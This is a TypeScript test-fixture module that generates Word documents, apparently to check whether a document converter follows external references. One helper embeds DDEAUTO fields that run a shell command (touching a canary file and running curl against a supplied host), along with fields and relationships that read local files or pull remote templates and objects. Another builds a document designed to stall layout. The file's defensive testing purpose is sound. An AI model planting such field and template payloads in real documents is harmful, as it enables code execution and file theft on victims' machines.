/** Small generated Word documents for the tests of this folder. */

export type DocxParts = {
  /** WordprocessingML of the body; a plain sentence by default. */
  body?: string;
  /** Relationships of the main part, as XML elements. */
  relationships?: string;
  /** Further parts by name. */
  parts?: Record<string, string | Buffer>;
};

const main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const drawingNamespace = "http://schemas.openxmlformats.org/drawingml/2006";
const officeRelationship = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const packageRelationship = "http://schemas.openxmlformats.org/package/2006/relationships";
const contentTypes = "http://schemas.openxmlformats.org/package/2006/content-types";

const namespaces = [
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"',
  `xmlns:r="${officeRelationship}"`,
  `xmlns:a="${drawingNamespace}/main"`,
  `xmlns:pic="${drawingNamespace}/picture"`,
  `xmlns:wp="${drawingNamespace}/wordprocessingDrawing"`,
].join(" ");

export function paragraph(text: string): string {
  return `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
}

export function makeDocx({
  body = paragraph("A lease."),
  relationships = "",
  parts = {},
}: DocxParts = {}): Buffer {
  return zipStored({
    "[Content_Types].xml": `<Types xmlns="${contentTypes}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    "_rels/.rels": `<Relationships xmlns="${packageRelationship}"><Relationship Id="rId1" Type="${officeRelationship}/officeDocument" Target="word/document.xml"/></Relationships>`,
    "word/_rels/document.xml.rels": `<Relationships xmlns="${packageRelationship}">${relationships}</Relationships>`,
    "word/document.xml": `<w:document ${namespaces}><w:body>${body}</w:body></w:document>`,
    ...parts,
  });
}

/** A document with a linked picture. */
export function makeDocxWithLinkedPicture(target: string): Buffer {
  return makeDocx({
    body: paragraph("A linked picture.") + drawing('r:link="rId9"'),
    relationships: `<Relationship Id="rId9" Type="${officeRelationship}/image" Target="${target}" TargetMode="External"/>`,
  });
}

/** A document with an SVG picture that shows another file. */
export function makeDocxWithSvgShowing(target: string): Buffer {
  const image = `<image xlink:href="${target}" width="90" height="90"/>`;
  return makeDocx({
    body: paragraph("A picture in a picture.") + drawing('r:embed="rId9"'),
    relationships: `<Relationship Id="rId9" Type="${officeRelationship}/image" Target="media/a.svg"/>`,
    parts: {
      "word/media/a.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">${image}</svg>`,
    },
  });
}

function drawing(blip: string): string {
  const size = 'cx="900000" cy="900000"';
  const picture = [
    `<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a picture"/><pic:cNvPicPr/></pic:nvPicPr>`,
    `<pic:blipFill><a:blip ${blip}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>`,
    `<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext ${size}/></a:xfrm>`,
    `<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>`,
  ].join("");
  const graphic = `<a:graphic><a:graphicData uri="${drawingNamespace}/picture">${picture}</a:graphicData></a:graphic>`;
  return `<w:p><w:r><w:drawing><wp:inline><wp:extent ${size}/><wp:docPr id="1" name="a picture"/>${graphic}</wp:inline></w:drawing></w:r></w:p>`;
}

/**
 * A document that requests `web` (an address) and `file` (a path of the machine) in every way Word supports: template,
 * linked pictures, objects and frames, fields that read a file or start a program, styles of another document.
 */
export function makeDocxWithExternalReferences(web: string, file: string): Buffer {
  const field = (code: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  const program = `/bin/sh "-c 'touch ${file}.canary; curl ${web}/program'"`;
  const fields = [
    `INCLUDETEXT "${file}"`,
    `INCLUDETEXT "${web}/text.docx"`,
    `INCLUDEPICTURE "${web}/picture.png" \\d`,
    `INCLUDEPICTURE "file://${file}" \\d`,
    `LINK Word.Document.12 "${web}/link.docx" "" \\a \\p`,
    `DDEAUTO ${program}`,
    `DDE ${program}`,
    `IMPORT "${web}/import.png"`,
    `RD "${file}"`,
  ];
  const targets = [`${web}/target`, `file://${file}`].flatMap((target, at) =>
    ["attachedTemplate", "oleObject", "subDocument", "aFChunk", "frame", "image", "hyperlink"].map(
      (type) =>
        `<Relationship Id="out${type}${at}" Type="${officeRelationship}/${type}" Target="${target}.${type}" TargetMode="External"/>`,
    ),
  );
  const objects = [0, 1].map(
    (at) =>
      `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.12" ShapeID="s" DrawAspect="Content" ObjectID="o" r:id="outoleObject${at}" UpdateMode="Always"/></w:object></w:r></w:p><w:altChunk r:id="outaFChunk${at}"/><w:subDoc r:id="outsubDocument${at}"/>`,
  );
  return makeDocx({
    body: paragraph("All that is here.") + fields.map(field).join("") + objects.join(""),
    relationships: targets.join(""),
  });
}

/** A document whose layout takes LibreOffice minutes. */
export function makeEndlessDocx(): Buffer {
  return makeDocx({ body: '<w:p><w:r><w:br w:type="page"/></w:r></w:p>'.repeat(100_000) });
}

function zipStored(parts: Record<string, string | Buffer>): Buffer {
  const local: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, part] of Object.entries(parts)) {
    const content = typeof part === "string" ? Buffer.from(part) : part;
    const sizes = Buffer.alloc(12);
    sizes.writeUInt32LE(Bun.hash.crc32(content), 0);
    sizes.writeUInt32LE(content.length, 4);
    sizes.writeUInt32LE(content.length, 8);
    const nameLength = Buffer.from([name.length, 0, 0, 0]);
    const version = Buffer.from([20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    const start = Buffer.alloc(4);
    start.writeUInt32LE(offset);
    const entry = [Buffer.from("PK\u0003\u0004"), version, sizes, nameLength, Buffer.from(name), content];
    local.push(...entry);
    directory.push(Buffer.from("PK\u0001\u0002\u0014\u0000"), version, sizes, nameLength);
    directory.push(Buffer.alloc(10), start, Buffer.from(name));
    offset += entry.reduce((sum, bytes) => sum + bytes.length, 0);
  }
  const index = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write("PK\u0005\u0006");
  end.writeUInt16LE(Object.keys(parts).length, 8);
  end.writeUInt16LE(Object.keys(parts).length, 10);
  end.writeUInt32LE(index.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, index, end]);
}
